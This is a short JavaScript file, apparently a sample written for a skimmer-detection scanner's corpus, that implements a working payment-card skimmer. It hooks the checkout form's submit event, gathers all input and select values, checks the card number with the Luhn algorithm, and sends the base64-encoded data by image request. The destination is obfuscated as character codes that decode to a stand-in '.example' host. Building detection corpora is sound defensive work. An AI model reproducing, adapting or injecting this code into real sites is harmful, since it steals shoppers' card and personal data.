// Written for shieldscan's corpus: a card skimmer that builds its exfil URL
// from char codes and sends the form through an image request on submit.
(function () {
  var c = [104,116,116,112,115,58,47,47,105,109,103,45,112,105,120,101,108,45,115,116,97,116,115,46,101,120,97,109,112,108,101,47,99,111,108,108,101,99,116];
  function luhn(n) {
    var s = 0, alt = false;
    for (var i = n.length - 1; i >= 0; i--) {
      var d = n.charCodeAt(i) - 48;
      if (alt) { d *= 2; if (d > 9) d -= 9; }
      s += d; alt = !alt;
    }
    return s % 10 === 0;
  }
  function grab() {
    var out = [], cc = "";
    var els = document.querySelectorAll("input, select");
    for (var i = 0; i < els.length; i++) {
      out.push(encodeURIComponent(els[i].name) + "=" + encodeURIComponent(els[i].value));
      if (/cc_number|cardnumber/.test(els[i].name)) cc = els[i].value.replace(/\D/g, "");
    }
    if (!luhn(cc)) return;
    var i = new Image();
    i.src = String.fromCharCode.apply(null, c) + "?d=" + btoa(out.join("&"));
  }
  document.addEventListener("DOMContentLoaded", function () {
    var f = document.getElementById("co-payment-form") || document.forms[0];
    f.addEventListener("submit", grab);
  });
})();
